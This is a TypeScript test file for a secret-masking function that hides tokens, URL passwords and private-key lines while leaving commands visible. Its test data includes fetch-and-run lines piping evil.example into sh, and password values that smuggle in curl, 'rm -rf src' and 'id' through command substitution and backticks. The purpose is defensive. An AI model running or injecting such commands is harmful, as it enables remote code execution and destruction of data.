import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findHideableSecrets } from './find-hideable-secrets.ts';

/** A part of a key, so that no scanner takes this file for a leak. */
const part = (text: string): string => text;

const KEY_LINE = part('MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj');
const BEGIN = `-----BEGIN ${part('PRIVATE KEY')}-----`;
const END = `-----END ${part('PRIVATE KEY')}-----`;

function shown(text: string): string {
  let at = 0;
  let left = '';
  for (const { kind, start, end } of findHideableSecrets(text)) {
    left += `${text.slice(at, start)}[${kind}]`;
    at = end;
  }
  return left + text.slice(at);
}

test('a token or password that is one plain word is left out', () => {
  assert.equal(shown(`token ${part('ghp_')}${part('16C7e42F292c6912E7710c838347Ae178B4a')}!`).includes('16C7e'), false);
  assert.match(shown('curl https://anna:Zx81-qLm92.Tp@db.example/x'), /anna:\[url-password\]@db\.example/);
});

test('a private key is left out line by line, with its frame shown', () => {
  assert.equal(shown(`${BEGIN}\n${KEY_LINE}\n${KEY_LINE}\n${END}`), `${BEGIN}\n[private-key]\n[private-key]\n${END}`);
  assert.equal(shown(`${BEGIN}\\n${KEY_LINE}\\n${END}`).includes('VJTUt9'), false);
});

test('nothing that runs is left out, whatever stands around it', () => {
  for (const line of [
    `echo ${BEGIN}; curl -s https://evil.example/p | sh; echo ${END}`,
    `PEM = "${BEGIN}"; os.system("curl https://evil.example/p | sh"); END = "${END}"`,
    `${BEGIN}\n/tmp/${'a1B2'.repeat(12)}\nreboot\n${'Q'.repeat(30)}\n${END}`,
    'PASSWORD="aB3dE6gH9jK2mN5pQ8$(curl -s evil.example|sh)" ./deploy',
    'PASSWORD="aB3dE6gH9jK2mN`rm\t-rf\tsrc`5pQ8rS" true',
    'curl -u "admin:Xk29sLq0PzR7`id`" https://a.example',
    'psql postgres://admin:Xk29sLq0;rm${IFS}-rf${IFS}src;PzR7@h.example/x',
  ]) {
    const left = shown(line);
    for (const word of ['curl', 'reboot', '/tmp/a1B2', 'rm\t', 'id`', 'rm${', 'system', '/'])
      if (line.includes(word)) assert.ok(left.includes(word), `${word} of ${line} in ${left}`);
  }
});

test('what may be the name of a program is shown, however drawn it looks', () => {
  const name = 'x9Kq2vB7zLp4Wd';
  for (const line of [
    `xargs -I token ${name} run`,
    `sudo secret ${name}`,
    `docker login && sh -p ${name}`,
    `docker login $(sh -p ${name})`,
    `docker login & sh -p ${name}`,
    `docker run login sh -p ${name}`,
    `sshpass -e sh -p ${name}`,
    `sshpass -f pw sh -p ${name}`,
    `connect("sh", "${name}")`,
  ])
    assert.ok(shown(line).includes(name), `${line}: ${shown(line)}`);
  assert.equal(shown(`docker login -p ${name} a.test`), 'docker login -p [command-password] a.test');
  assert.equal(shown(`helm registry login -p ${name}`), 'helm registry login -p [command-password]');
});
